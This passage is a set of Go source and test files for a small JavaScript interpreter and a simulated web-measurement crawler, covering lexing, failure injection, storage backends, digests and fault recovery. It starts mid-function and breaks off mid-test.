	if err := quick.Check(f, &quick.Config{MaxCount: 400}); err != nil {
		t.Fatal(err)
	}
}
