package minjs

import (
	"strings"
	"testing"
)

// Failure injection and edge cases: the interpreter must stay well-behaved
// when scripts do hostile or degenerate things.

func TestGetterThrowingDuringForIn(t *testing.T) {
	it := New()
	o := it.NewObjectP()
	o.Set("ok", Int(1))
	boom := it.NewNative("get bad", func(it *Interp, this Value, args []Value) (Value, error) {
		return Undefined(), it.ThrowError("TypeError", "poisoned getter")
	})
	o.DefineAccessor("bad", boom, nil, true)
	it.Global.Set("o", ObjectValue(o))
	v, err := it.RunScript(`
		var seen = [];
		var err = "";
		try {
			for (var k in o) { seen.push(k + "=" + o[k]); }
		} catch (e) { err = e.message }
		seen.join(",") + "|" + err`, "t.js")
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(v.Str, "ok=1") || !strings.Contains(v.Str, "poisoned getter") {
		t.Errorf("got %q", v.Str)
	}
}

func TestSetterThrowPropagates(t *testing.T) {
	v := run(t, `
		var o = {};
		Object.defineProperty(o, "x", {set: function (v) { throw new Error("no-write") }});
		var r = "";
		try { o.x = 5 } catch (e) { r = e.message }
		r`)
	wantStr(t, v, "no-write")
}

func TestDeleteNonConfigurableStillRemoves(t *testing.T) {
	// our delete is permissive (sloppy-mode semantics are enough for the
	// study's scripts); this pins the behaviour so changes are deliberate
	v := run(t, `var o = {}; Object.defineProperty(o, "x", {value: 1}); delete o.x; "x" in o`)
	wantBool(t, v, false)
}

func TestPathologicalNesting(t *testing.T) {
	// deeply nested expressions must parse without blowing the Go stack
	depth := 200
	src := strings.Repeat("(", depth) + "1" + strings.Repeat(")", depth)
	v := run(t, src)
	wantNum(t, v, 1)
}

func TestHugeStringConcatBounded(t *testing.T) {
	// exponential string growth must be stopped by the allocation cap (a
	// catchable RangeError, like real engines), not exhaust memory
	it := New()
	v, err := it.RunScript(`
		var s = "x";
		var r = "no-throw";
		try { while (true) { s = s + s; } } catch (e) { r = e.name }
		r`, "grow.js")
	if err != nil {
		t.Fatal(err)
	}
	wantStr(t, v, "RangeError")

	// and a catch-and-retry loop still hits the step interrupt
	it2 := New()
	it2.StepLimit = 500_000
	_, err = it2.RunScript(`
		while (true) {
			var s = "x";
			try { while (true) { s = s + s; } } catch (e) { }
		}`, "grow2.js")
	if _, ok := err.(*InterruptError); !ok {
		t.Fatalf("expected interrupt, got %v", err)
	}
}

func TestPrototypeCycleRejected(t *testing.T) {
	// real engines refuse cyclic __proto__ values; so do we — otherwise
	// every prototype-chain walk would loop forever
	v := run(t, `
		var a = {};
		var b = Object.create(a);
		var r = "ok";
		try { Object.setPrototypeOf(a, b) } catch (e) { r = e.name }
		r`)
	wantStr(t, v, "TypeError")
}

func TestForInMutationDuringIteration(t *testing.T) {
	v := run(t, `
		var o = {a: 1, b: 2};
		var seen = [];
		for (var k in o) {
			seen.push(k);
			o["added_" + k] = 1; // must not loop forever
		}
		seen.length >= 2`)
	wantBool(t, v, true)
}

func TestArrayHoles(t *testing.T) {
	wantNum(t, run(t, `var a = [1]; a[5] = 9; a.length`), 6)
	wantStr(t, run(t, `var a = [1]; a[3] = 4; typeof a[2]`), "undefined")
	wantStr(t, run(t, `var a = [1]; a[3] = 4; a.join("-")`), "1---4")
}

func TestNegativeAndWeirdIndices(t *testing.T) {
	wantStr(t, run(t, `var a = [1, 2]; typeof a[-1]`), "undefined")
	wantNum(t, run(t, `var a = [1, 2]; a["1"]`), 2)
	wantNum(t, run(t, `var a = [1, 2]; a["01"] = 7; a.length`), 2) // "01" is a plain key
}

func TestStringIndexOutOfRange(t *testing.T) {
	wantStr(t, run(t, `typeof "ab"[5]`), "undefined")
	wantStr(t, run(t, `"ab".charAt(99)`), "")
}

func TestThrowNonObjectValues(t *testing.T) {
	wantStr(t, run(t, `var r; try { throw "bare string" } catch (e) { r = e } r`), "bare string")
	wantNum(t, run(t, `var r; try { throw 42 } catch (e) { r = e } r`), 42)
	wantStr(t, run(t, `var r; try { throw null } catch (e) { r = typeof e } r`), "object")
}

func TestFinallyOverridesReturnPath(t *testing.T) {
	// a throwing finally replaces the pending completion
	v := run(t, `
		var r = "";
		function f() {
			try { throw new Error("first") }
			finally { r += "fin;" }
		}
		try { f() } catch (e) { r += e.message }
		r`)
	wantStr(t, v, "fin;first")
}

func TestNestedTryRethrow(t *testing.T) {
	v := run(t, `
		var trail = "";
		try {
			try { throw new Error("inner") }
			catch (e) { trail += "c1;"; throw new Error("re:" + e.message) }
		} catch (e2) { trail += e2.message }
		trail`)
	wantStr(t, v, "c1;re:inner")
}

func TestShadowingAcrossScopes(t *testing.T) {
	wantNum(t, run(t, `
		var x = 1;
		function f() { var x = 2; return x }
		f() + x`), 3)
	wantNum(t, run(t, `
		var x = 1;
		function f() { x = 5; return 0 } // no var: writes outer
		f() + x`), 5)
}

func TestClosureCapturesLoopVariableSharing(t *testing.T) {
	// classic var semantics: all closures share the loop binding
	v := run(t, `
		var fns = [];
		for (var i = 0; i < 3; i++) { fns.push(function () { return i }) }
		fns[0]() + "," + fns[1]() + "," + fns[2]()`)
	wantStr(t, v, "3,3,3")
}

func TestGlobalFunctionsOverridable(t *testing.T) {
	// pages overwrite natives; bindings must follow (the attack substrate)
	v := run(t, `
		var orig = parseInt;
		parseInt = function (s) { return 999 };
		var hijacked = parseInt("42");
		parseInt = orig;
		hijacked + parseInt("1")`)
	wantNum(t, v, 1000)
}

func TestEvalSyntaxErrorIsCatchable(t *testing.T) {
	v := run(t, `
		var r = "";
		try { eval("var = broken") } catch (e) { r = e.name }
		r`)
	wantStr(t, v, "SyntaxError")
}

func TestInterruptDuringNestedCalls(t *testing.T) {
	it := New()
	it.StepLimit = 50_000
	_, err := it.RunScript(`
		function spin(n) {
			while (true) { n++ }
		}
		try { spin(0) } catch (e) { /* not catchable */ }`, "t.js")
	if _, ok := err.(*InterruptError); !ok {
		t.Fatalf("got %v", err)
	}
	// the interpreter remains usable afterwards
	v, err := it.RunScript("1 + 1", "t2.js")
	if err != nil || v.Num != 2 {
		t.Fatalf("interp unusable after interrupt: %v %v", v, err)
	}
	if it.StackDepth() != 0 {
		t.Fatalf("stack not unwound: depth %d", it.StackDepth())
	}
}

func TestConstructorReturningObjectOverridesThis(t *testing.T) {
	wantNum(t, run(t, `
		function C() { this.a = 1; return {b: 2} }
		new C().b`), 2)
	wantStr(t, run(t, `
		function C() { this.a = 1; return 42 } // primitive ignored
		new C().a + "," + typeof new C().b`), "1,undefined")
}

func TestVoidLikePatterns(t *testing.T) {
	wantStr(t, run(t, `typeof undefined`), "undefined")
	wantBool(t, run(t, `undefined === undefined`), true)
	wantBool(t, run(t, `(function () {})() === undefined`), true)
}
