package minjs

import (
	"fmt"
	"strconv"
	"strings"
)

// SyntaxError describes a lexing or parsing failure in a script.
type SyntaxError struct {
	Script string // script URL or name
	Line   int
	Msg    string
}

func (e *SyntaxError) Error() string {
	return fmt.Sprintf("%s:%d: syntax error: %s", e.Script, e.Line, e.Msg)
}

type lexer struct {
	src    string
	script string
	pos    int
	line   int
	toks   []Token
}

// three-character and two-character punctuators, longest match first.
var punct3 = []string{"===", "!==", "**=", "...", ">>>", "<<=", ">>="}
var punct2 = []string{
	"==", "!=", "<=", ">=", "&&", "||", "++", "--", "+=", "-=",
	"*=", "/=", "%=", "=>", "<<", ">>", "&=", "|=", "^=", "??",
}

// lex scans src into a token slice. scriptName is used in error messages.
func lex(src, scriptName string) ([]Token, error) {
	l := &lexer{src: src, script: scriptName, line: 1}
	for {
		l.skipSpaceAndComments()
		if l.pos >= len(l.src) {
			l.emit(Token{Kind: TokEOF, Pos: l.pos, Line: l.line})
			return l.toks, nil
		}
		c := l.src[l.pos]
		switch {
		case isIdentStart(c):
			l.lexIdent()
		case isDigit(c) || (c == '.' && l.pos+1 < len(l.src) && isDigit(l.src[l.pos+1])):
			if err := l.lexNumber(); err != nil {
				return nil, err
			}
		case c == '"' || c == '\'':
			if err := l.lexString(c); err != nil {
				return nil, err
			}
		default:
			if err := l.lexPunct(); err != nil {
				return nil, err
			}
		}
	}
}

func (l *lexer) emit(t Token) { l.toks = append(l.toks, t) }

func (l *lexer) errf(format string, args ...any) error {
	return &SyntaxError{Script: l.script, Line: l.line, Msg: fmt.Sprintf(format, args...)}
}

func (l *lexer) skipSpaceAndComments() {
	for l.pos < len(l.src) {
		c := l.src[l.pos]
		switch {
		case c == '\n':
			l.line++
			l.pos++
		case c == ' ' || c == '\t' || c == '\r':
			l.pos++
		case c == '/' && l.pos+1 < len(l.src) && l.src[l.pos+1] == '/':
			for l.pos < len(l.src) && l.src[l.pos] != '\n' {
				l.pos++
			}
		case c == '/' && l.pos+1 < len(l.src) && l.src[l.pos+1] == '*':
			l.pos += 2
			for l.pos+1 < len(l.src) && !(l.src[l.pos] == '*' && l.src[l.pos+1] == '/') {
				if l.src[l.pos] == '\n' {
					l.line++
				}
				l.pos++
			}
			l.pos += 2
			if l.pos > len(l.src) {
				l.pos = len(l.src)
			}
		default:
			return
		}
	}
}

func (l *lexer) lexIdent() {
	start := l.pos
	for l.pos < len(l.src) && isIdentPart(l.src[l.pos]) {
		l.pos++
	}
	word := l.src[start:l.pos]
	kind := TokIdent
	if keywords[word] {
		kind = TokKeyword
	}
	l.emit(Token{Kind: kind, Text: word, Pos: start, Line: l.line})
}

func (l *lexer) lexNumber() error {
	start := l.pos
	if strings.HasPrefix(l.src[l.pos:], "0x") || strings.HasPrefix(l.src[l.pos:], "0X") {
		l.pos += 2
		for l.pos < len(l.src) && isHexDigit(l.src[l.pos]) {
			l.pos++
		}
		n, err := strconv.ParseUint(l.src[start+2:l.pos], 16, 64)
		if err != nil {
			return l.errf("bad hex literal %q", l.src[start:l.pos])
		}
		l.emit(Token{Kind: TokNumber, Num: float64(n), Pos: start, Line: l.line})
		return nil
	}
	for l.pos < len(l.src) && isDigit(l.src[l.pos]) {
		l.pos++
	}
	if l.pos < len(l.src) && l.src[l.pos] == '.' {
		l.pos++
		for l.pos < len(l.src) && isDigit(l.src[l.pos]) {
			l.pos++
		}
	}
	if l.pos < len(l.src) && (l.src[l.pos] == 'e' || l.src[l.pos] == 'E') {
		l.pos++
		if l.pos < len(l.src) && (l.src[l.pos] == '+' || l.src[l.pos] == '-') {
			l.pos++
		}
		for l.pos < len(l.src) && isDigit(l.src[l.pos]) {
			l.pos++
		}
	}
	f, err := strconv.ParseFloat(l.src[start:l.pos], 64)
	if err != nil {
		return l.errf("bad number literal %q", l.src[start:l.pos])
	}
	l.emit(Token{Kind: TokNumber, Num: f, Pos: start, Line: l.line})
	return nil
}

func (l *lexer) lexString(quote byte) error {
	start := l.pos
	startLine := l.line
	l.pos++ // opening quote
	var b strings.Builder
	for {
		if l.pos >= len(l.src) {
			return l.errf("unterminated string literal")
		}
		c := l.src[l.pos]
		if c == quote {
			l.pos++
			l.emit(Token{Kind: TokString, Text: b.String(), Pos: start, Line: startLine})
			return nil
		}
		if c == '\n' {
			return l.errf("newline in string literal")
		}
		if c != '\\' {
			b.WriteByte(c)
			l.pos++
			continue
		}
		// escape sequence
		l.pos++
		if l.pos >= len(l.src) {
			return l.errf("unterminated escape sequence")
		}
		e := l.src[l.pos]
		l.pos++
		switch e {
		case 'n':
			b.WriteByte('\n')
		case 't':
			b.WriteByte('\t')
		case 'r':
			b.WriteByte('\r')
		case 'b':
			b.WriteByte('\b')
		case 'f':
			b.WriteByte('\f')
		case 'v':
			b.WriteByte('\v')
		case '0':
			b.WriteByte(0)
		case '\\', '\'', '"', '/':
			b.WriteByte(e)
		case 'x':
			if l.pos+2 > len(l.src) || !isHexDigit(l.src[l.pos]) || !isHexDigit(l.src[l.pos+1]) {
				return l.errf("bad \\x escape")
			}
			n, _ := strconv.ParseUint(l.src[l.pos:l.pos+2], 16, 8)
			b.WriteByte(byte(n))
			l.pos += 2
		case 'u':
			if l.pos+4 > len(l.src) {
				return l.errf("bad \\u escape")
			}
			n, err := strconv.ParseUint(l.src[l.pos:l.pos+4], 16, 32)
			if err != nil {
				return l.errf("bad \\u escape")
			}
			b.WriteRune(rune(n))
			l.pos += 4
		case '\n':
			l.line++ // line continuation
		default:
			b.WriteByte(e)
		}
	}
}

func (l *lexer) lexPunct() error {
	rest := l.src[l.pos:]
	for _, p := range punct3 {
		if strings.HasPrefix(rest, p) {
			l.emit(Token{Kind: TokPunct, Text: p, Pos: l.pos, Line: l.line})
			l.pos += 3
			return nil
		}
	}
	for _, p := range punct2 {
		if strings.HasPrefix(rest, p) {
			l.emit(Token{Kind: TokPunct, Text: p, Pos: l.pos, Line: l.line})
			l.pos += 2
			return nil
		}
	}
	c := rest[0]
	switch c {
	case '+', '-', '*', '/', '%', '=', '<', '>', '!', '&', '|', '^', '~',
		'(', ')', '{', '}', '[', ']', ';', ',', '.', ':', '?':
		l.emit(Token{Kind: TokPunct, Text: string(c), Pos: l.pos, Line: l.line})
		l.pos++
		return nil
	}
	return l.errf("unexpected character %q", string(c))
}
