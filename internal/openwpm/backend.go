package openwpm

// Backend is the durable half of Storage: every record the store accepts —
// after sanitisation and after the fault filter, the same stream Observer
// sees — is also offered to the backend as an append. The in-memory tables
// on Storage stay authoritative for analysis (package experiments reads them
// directly); a backend's job is to make the same stream survive a process
// crash. Package wal implements the durable backend; MemBackend is the
// explicit "memory only" backend that preserves the pre-backend behaviour
// byte-for-byte.
//
// Append methods return an error so a durable backend can report disk
// faults; Storage counts failures (telemetry + BackendErrors) and keeps the
// in-memory copy regardless — a failing disk degrades durability, never the
// live crawl.
type Backend interface {
	AppendVisit(VisitRecord) error
	AppendCrash(CrashRecord) error
	AppendRequest(RequestRecord) error
	AppendCookie(CookieEntry) error
	AppendJSCall(JSCall) error
	// AppendScriptFile receives one accepted content write (url may repeat
	// for deduplicated content; sha identifies the body).
	AppendScriptFile(url, sha, content, ctype string) error
	AppendTamper(TamperRecord) error
	// AppendDrop records a storage-fault drop with the visit context that
	// owned the lost write, so replay can attribute drops deterministically.
	AppendDrop(table, site string) error
	// AppendCheckpoint marks a durable site boundary: outcome is the site
	// just accounted, recorder is an opaque serialised recorder-state blob
	// (nil when the crawl is not being recorded) and trace is an opaque
	// flight-recorder delta blob (nil when telemetry is off). Recovery
	// truncates the log back to the last checkpoint, so everything before a
	// checkpoint is committed and everything after it is re-crawled.
	AppendCheckpoint(outcome SiteOutcome, recorder, trace []byte) error
	// Flush forces buffered appends down to the backing store.
	Flush() error
	// Close flushes and releases the backend.
	Close() error
}

// MemBackend is the explicit in-memory backend: Storage's own tables are the
// store, so every append is a no-op. It exists so "memory" and "wal" are the
// same kind of thing to configuration code, and so the backend-attached path
// is exercised even when durability is off.
type MemBackend struct{}

func (MemBackend) AppendVisit(VisitRecord) error     { return nil }
func (MemBackend) AppendCrash(CrashRecord) error     { return nil }
func (MemBackend) AppendRequest(RequestRecord) error { return nil }
func (MemBackend) AppendCookie(CookieEntry) error    { return nil }
func (MemBackend) AppendJSCall(JSCall) error         { return nil }
func (MemBackend) AppendScriptFile(url, sha, content, ctype string) error {
	return nil
}
func (MemBackend) AppendTamper(TamperRecord) error                    { return nil }
func (MemBackend) AppendDrop(table, site string) error                { return nil }
func (MemBackend) AppendCheckpoint(SiteOutcome, []byte, []byte) error { return nil }
func (MemBackend) Flush() error                                       { return nil }
func (MemBackend) Close() error                                       { return nil }
