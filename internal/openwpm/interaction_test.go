package openwpm

import (
	"strings"
	"testing"

	"gullible/internal/httpsim"
	"gullible/internal/jsdom"
)

// hoverPage registers its detection probe behind a mouseover listener: the
// default crawl never executes it, interaction simulation does.
const hoverPage = `<script>
	document.addEventListener("mouseover", function (e) {
		if (navigator.webdriver === true) {
			navigator.sendBeacon("https://detect.example/flag", "hover");
		}
	});
</script>`

func hoverWeb() *web {
	return &web{pages: map[string]*httpsim.Response{
		"https://a.com/": htmlPage(hoverPage, nil),
	}}
}

func TestHoverDetectorInvisibleWithoutInteraction(t *testing.T) {
	w := hoverWeb()
	tm := tmFor(w)
	if _, err := tm.VisitSite("https://a.com/"); err != nil {
		t.Fatal(err)
	}
	if n := tm.Storage.JSCallsBySymbol()["Navigator.webdriver"]; n != 0 {
		t.Errorf("hover-gated probe executed without interaction (%d records)", n)
	}
	if w.log.CountByType()[httpsim.TypeBeacon] != 0 {
		t.Error("flag beacon fired without interaction")
	}
}

func TestHoverDetectorVisibleWithInteraction(t *testing.T) {
	w := hoverWeb()
	tm := NewTaskManager(CrawlConfig{
		OS: jsdom.Ubuntu, Mode: jsdom.Regular,
		Transport: w, DwellSeconds: 1,
		JSInstrument: true, HTTPInstrument: true,
		SimulateInteraction: true,
	})
	if _, err := tm.VisitSite("https://a.com/"); err != nil {
		t.Fatal(err)
	}
	if n := tm.Storage.JSCallsBySymbol()["Navigator.webdriver"]; n == 0 {
		t.Error("interaction simulation did not execute the hover-gated probe")
	}
	var beacon bool
	for _, r := range tm.Storage.Requests {
		if r.Type == httpsim.TypeBeacon && strings.Contains(r.URL, "detect.example") {
			beacon = true
		}
	}
	if !beacon {
		t.Error("hover detector's flag beacon missing")
	}
}
