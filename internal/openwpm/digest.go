package openwpm

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"hash"
	"sort"
	"strings"
)

// DigestState is the incremental form of Storage.Digest(): records are fed
// one at a time, in storage-accept order, and Sum() is a deterministic
// SHA-256 over everything fed so far. Storage.Digest() is defined in terms
// of this type, and the WAL backend maintains one per shard as records are
// appended (and re-fed on recovery), so "backend digest equals storage
// digest" holds by construction — both sides hash the identical stream
// through the identical code.
//
// Insertion-ordered tables (visits, crashes, requests, js calls, cookies)
// each keep a running hasher; the sorted sections (content-addressed
// scripts, tamper records, dropped-write counters) keep compact state and
// are serialised in key order at Sum() time. The final digest hashes the
// per-section digests, labelled, in a fixed order.
type DigestState struct {
	visits   hash.Hash
	crashes  hash.Hash
	requests hash.Hash
	jscalls  hash.Hash
	cookies  hash.Hash

	scripts map[string]*scriptDigest // keyed by content SHA-256
	tampers map[string]TamperRecord  // keyed by content SHA-256, first wins
	dropped map[string]int
}

// scriptDigest is the digest-relevant projection of one stored script file:
// its content type and the deduplicated set of URLs that served it.
type scriptDigest struct {
	ctype string
	urls  []string
	seen  map[string]bool
}

// NewDigestState returns an empty accumulator.
func NewDigestState() *DigestState {
	return &DigestState{
		visits:   sha256.New(),
		crashes:  sha256.New(),
		requests: sha256.New(),
		jscalls:  sha256.New(),
		cookies:  sha256.New(),
		scripts:  map[string]*scriptDigest{},
		tampers:  map[string]TamperRecord{},
		dropped:  map[string]int{},
	}
}

func (d *DigestState) AddVisit(v VisitRecord) {
	fmt.Fprintf(d.visits, "visit|%s|%s|%s|%t|%t|%q|%d|%t|%d|%s|%t\n",
		v.SiteURL, v.FinalURL, v.Site, v.Subpage, v.OK, v.Error,
		v.CSPReports, v.InstrumentInstalled, v.Restarts, v.ErrorClass, v.Salvaged)
}

func (d *DigestState) AddCrash(c CrashRecord) {
	fmt.Fprintf(d.crashes, "crash|%s|%s|%d|%s|%q\n", c.SiteURL, c.PageURL, c.Attempt, c.Class, c.Error)
}

func (d *DigestState) AddRequest(r RequestRecord) {
	fmt.Fprintf(d.requests, "request|%s|%s|%s|%s|%d|%s|%g|%d\n",
		r.Method, r.URL, r.TopURL, r.Type, r.Status, r.CType, r.Time, r.BodySize)
}

func (d *DigestState) AddJSCall(c JSCall) {
	fmt.Fprintf(d.jscalls, "jscall|%s|%s|%s|%q|%q|%q|%s|%g\n",
		c.TopURL, c.FrameURL, c.Symbol, c.Operation, c.Value, c.Args, c.ScriptURL, c.Time)
}

func (d *DigestState) AddCookie(c CookieEntry) {
	fmt.Fprintf(d.cookies, "cookie|%q|%q|%s|%s|%g|%t|%t|%g\n",
		c.Name, c.Value, c.Domain, c.TopURL, c.Expires, c.ViaJS, c.FirstParty, c.Time)
}

// AddScript feeds one accepted content write. Only the content's hash, type
// and serving URLs are digest-relevant; duplicate URLs for the same hash
// collapse exactly as Storage.AddScriptFile collapses them.
func (d *DigestState) AddScript(url, sha, ctype string) {
	s, ok := d.scripts[sha]
	if !ok {
		s = &scriptDigest{ctype: ctype, seen: map[string]bool{}}
		d.scripts[sha] = s
	}
	if !s.seen[url] {
		s.seen[url] = true
		s.urls = append(s.urls, url)
	}
}

// AddTamper feeds one stored tamper record; duplicates for the same body
// (shards that both analysed it) collapse to the first, matching
// Storage.Merge.
func (d *DigestState) AddTamper(t TamperRecord) {
	if _, ok := d.tampers[t.SHA256]; !ok {
		d.tampers[t.SHA256] = t
	}
}

// AddDrop feeds one dropped write on table.
func (d *DigestState) AddDrop(table string) { d.dropped[table]++ }

// AddDropped feeds n dropped writes on table (bulk form for Digest()).
func (d *DigestState) AddDropped(table string, n int) { d.dropped[table] += n }

// Sum finalises the digest over everything fed so far. It does not consume
// the state: more records may be fed and Sum called again.
func (d *DigestState) Sum() string {
	h := sha256.New()
	for _, sec := range []struct {
		name string
		h    hash.Hash
	}{
		{"visits", d.visits}, {"crashes", d.crashes}, {"requests", d.requests},
		{"jscalls", d.jscalls}, {"cookies", d.cookies},
	} {
		fmt.Fprintf(h, "%s|%x\n", sec.name, sec.h.Sum(nil))
	}
	hashes := make([]string, 0, len(d.scripts))
	for k := range d.scripts {
		hashes = append(hashes, k)
	}
	sort.Strings(hashes)
	for _, k := range hashes {
		s := d.scripts[k]
		urls := append([]string(nil), s.urls...)
		sort.Strings(urls)
		fmt.Fprintf(h, "script|%s|%s|%s\n", k, s.ctype, strings.Join(urls, ","))
	}
	shas := make([]string, 0, len(d.tampers))
	for k := range d.tampers {
		shas = append(shas, k)
	}
	sort.Strings(shas)
	for _, k := range shas {
		t := d.tampers[k]
		fmt.Fprintf(h, "tamper|%s|%s|%t", t.SHA256, t.URL, t.Parsed)
		for _, f := range t.Findings {
			fmt.Fprintf(h, "|%s:%d:%q", f.Rule, f.Line, f.Detail)
		}
		fmt.Fprintln(h)
	}
	tables := make([]string, 0, len(d.dropped))
	for t := range d.dropped {
		tables = append(tables, t)
	}
	sort.Strings(tables)
	for _, t := range tables {
		fmt.Fprintf(h, "dropped|%s|%d\n", t, d.dropped[t])
	}
	return hex.EncodeToString(h.Sum(nil))
}
