package openwpm

import (
	"strings"
	"testing"

	"gullible/internal/telemetry"
)

// Merging into a zero-value report (not NewCrawlReport) must not panic on the
// nil ErrorClasses map and must carry the metrics snapshot across.
func TestReportMergeZeroValueReceiver(t *testing.T) {
	snap := &telemetry.Snapshot{Counters: map[string]int64{"crawl_pages_total": 3}}
	o := NewCrawlReport()
	o.Sites, o.Completed, o.Salvaged = 5, 3, 1
	o.Failed = 1
	o.ErrorClasses["hang"] = 2
	o.Metrics = snap

	r := &CrawlReport{}
	r.Merge(o)
	if r.Sites != 5 || r.Completed != 3 || r.Salvaged != 1 || r.Failed != 1 {
		t.Fatalf("merged counts wrong: %+v", r)
	}
	if r.ErrorClasses["hang"] != 2 {
		t.Fatalf("ErrorClasses not merged: %v", r.ErrorClasses)
	}
	if r.Metrics != snap {
		t.Fatal("Metrics snapshot not carried by merge")
	}

	// Keep-first: a second shard's snapshot must not replace the first —
	// sharded workers share one registry, so summing would double-count.
	o2 := NewCrawlReport()
	o2.Metrics = &telemetry.Snapshot{Counters: map[string]int64{"crawl_pages_total": 99}}
	r.Merge(o2)
	if r.Metrics != snap {
		t.Fatal("Merge replaced the first metrics snapshot")
	}

	// Merging a metrics-free report into a zero receiver must also be safe.
	(&CrawlReport{}).Merge(&CrawlReport{Sites: 1, Completed: 1})
}

// Absorb on a zero-value report must initialise ErrorClasses itself.
func TestReportAbsorbZeroValueReceiver(t *testing.T) {
	r := &CrawlReport{}
	r.Absorb(&SiteVisit{ErrorClass: "transient"}, nil)
	if r.Sites != 1 || r.Completed != 1 || r.ErrorClasses["transient"] != 1 {
		t.Fatalf("absorb into zero value: %+v", r)
	}
}

// Salvaged and skipped sites are different failure modes — salvaged kept
// partial records, skipped never produced any — and both the rates and the
// rendered report must keep them apart.
func TestReportSalvagedVersusSkipped(t *testing.T) {
	r := NewCrawlReport()
	r.Sites, r.Completed, r.Salvaged, r.Failed, r.Skipped = 10, 6, 2, 1, 1

	if got := r.CompletionRate(); got != 0.8 {
		t.Fatalf("CompletionRate = %v, want 0.8 (completed+salvaged)", got)
	}
	if got := r.FullCompletionRate(); got != 0.6 {
		t.Fatalf("FullCompletionRate = %v, want 0.6 (completed only)", got)
	}
	s := r.String()
	if !strings.Contains(s, "completion 80.0%, full 60.0%") {
		t.Fatalf("String() lost the rate distinction:\n%s", s)
	}
	if !strings.Contains(s, "2 sites salvaged (partial records kept)") ||
		!strings.Contains(s, "1 sites skipped (never visited, no records)") {
		t.Fatalf("String() folds salvaged and skipped together:\n%s", s)
	}

	// No data loss → no data-loss line: the callout must not cry wolf.
	clean := NewCrawlReport()
	clean.Sites, clean.Completed = 3, 3
	if strings.Contains(clean.String(), "data loss") {
		t.Fatalf("clean report prints a data-loss line:\n%s", clean.String())
	}

	// Zero-site reports must not divide by zero.
	empty := &CrawlReport{}
	if empty.CompletionRate() != 0 || empty.FullCompletionRate() != 0 {
		t.Fatal("empty report rates not zero")
	}
}
