package openwpm

import (
	"reflect"
	"testing"
	"testing/quick"

	"gullible/internal/faults"
	"gullible/internal/httpsim"
	"gullible/internal/jsdom"
	"gullible/internal/websim"
)

// faultTransport wraps the canned web with scripted per-URL errors and
// per-URL response delays, so each recovery path can be exercised directly.
type faultTransport struct {
	inner *web
	errs  map[string]error   // URL → error returned on every request
	delay map[string]float64 // URL → DelaySeconds stamped on the response
}

func (f *faultTransport) RoundTrip(req *httpsim.Request) (*httpsim.Response, error) {
	if err := f.errs[req.URL]; err != nil {
		return nil, err
	}
	resp, rerr := f.inner.RoundTrip(req)
	if resp != nil && f.delay[req.URL] > 0 {
		c := *resp
		c.DelaySeconds = f.delay[req.URL]
		resp = &c
	}
	return resp, rerr
}

func hardenedTM(t httpsim.RoundTripper, mut func(*CrawlConfig)) *TaskManager {
	cfg := CrawlConfig{
		OS: jsdom.Ubuntu, Mode: jsdom.Regular,
		Transport:    t,
		DwellSeconds: 1,
		JSInstrument: true, HTTPInstrument: true, CookieInstrument: true,
	}.Hardened()
	cfg.BackoffBaseSeconds = 0 // keep virtual accounting easy to reason about
	if mut != nil {
		mut(&cfg)
	}
	return NewTaskManager(cfg)
}

func frontSite() map[string]*httpsim.Response {
	return map[string]*httpsim.Response{
		"https://a.com/": htmlPage(`<script src="/ok.js"></script>
			<script src="/boom.js"></script>
			<a href="/p1">p1</a><a href="/p2">p2</a><a href="/p3">p3</a>`, nil),
		"https://a.com/ok.js": {Status: 200, Headers: map[string]string{"Content-Type": "text/javascript"}, Body: "var ok = 1;"},
	}
}

func TestMalformedURLFailsFastAsPermanent(t *testing.T) {
	tm := hardenedTM(&web{pages: map[string]*httpsim.Response{}}, nil)
	for _, bad := range []string{"notaurl", "ftp://x.com/", "https:///nohost"} {
		sv, err := tm.VisitSite(bad)
		if err == nil {
			t.Fatalf("%q: want error", bad)
		}
		if faults.Classify(err) != faults.ClassPermanent {
			t.Fatalf("%q: class = %v, want permanent", bad, faults.Classify(err))
		}
		if sv.Restarts != 0 {
			t.Fatalf("%q: a malformed URL burned %d browser restarts", bad, sv.Restarts)
		}
	}
	if len(tm.Storage.Crashes) != 0 {
		t.Fatalf("malformed URLs must not write crash records, got %d", len(tm.Storage.Crashes))
	}
}

func TestNon200FrontPageFailsFast(t *testing.T) {
	w := &web{pages: map[string]*httpsim.Response{}} // everything 404s
	tm := hardenedTM(w, nil)
	sv, err := tm.VisitSite("https://gone.com/")
	if err == nil {
		t.Fatal("want error")
	}
	if classifyError(err) != faults.ClassPermanent {
		t.Fatalf("class = %v, want permanent", classifyError(err))
	}
	if sv.Restarts != 0 || len(tm.Storage.Crashes) != 0 {
		t.Fatalf("permanent 404 must not trigger restarts: restarts=%d crashes=%d",
			sv.Restarts, len(tm.Storage.Crashes))
	}
	// exactly one attempt hit the network
	if got := len(w.log.URLs()); got != 1 {
		t.Fatalf("main document fetched %d times, want 1", got)
	}
	recs := tm.Storage.Visits
	if len(recs) != 1 || recs[0].OK || recs[0].ErrorClass != faults.ClassPermanent.String() {
		t.Fatalf("bad visit record: %+v", recs)
	}
}

func TestTransientFaultRecoversWithRestart(t *testing.T) {
	w := &web{pages: frontSite(), fail: map[string]int{"https://a.com/": 1}}
	tm := hardenedTM(w, nil)
	sv, err := tm.VisitSite("https://a.com/")
	if err != nil {
		t.Fatal(err)
	}
	if sv.Restarts != 1 {
		t.Fatalf("Restarts = %d, want 1", sv.Restarts)
	}
	cr := tm.Storage.Crashes
	if len(cr) != 1 || cr[0].Class != faults.ClassTransient.String() {
		t.Fatalf("crash records: %+v", cr)
	}
	if v := tm.Storage.Visits[0]; !v.OK || v.Restarts != 1 || v.Salvaged {
		t.Fatalf("visit record: %+v", v)
	}
}

func TestWatchdogSalvagesTarpittedSite(t *testing.T) {
	ft := &faultTransport{
		inner: &web{pages: frontSite()},
		delay: map[string]float64{"https://a.com/ok.js": 500}, // tarpit past any budget
	}
	tm := hardenedTM(ft, func(c *CrawlConfig) { c.MaxVisitSeconds = 60; c.MaxRetries = 1; c.MaxSubpages = 3 })
	rep := tm.Crawl([]string{"https://a.com/"})

	if rep.Salvaged != 1 || rep.Completed != 0 || rep.Failed != 0 {
		t.Fatalf("report: %+v", rep)
	}
	if !rep.Accounted() {
		t.Fatal("sites not fully accounted")
	}
	if rep.ErrorClasses[faults.ClassHang.String()] != 1 {
		t.Fatalf("error classes: %v", rep.ErrorClasses)
	}
	// both attempts hit the watchdog → both recorded as restarts
	if rep.Restarts != 2 {
		t.Fatalf("restarts = %d, want 2", rep.Restarts)
	}
	v := tm.Storage.Visits[0]
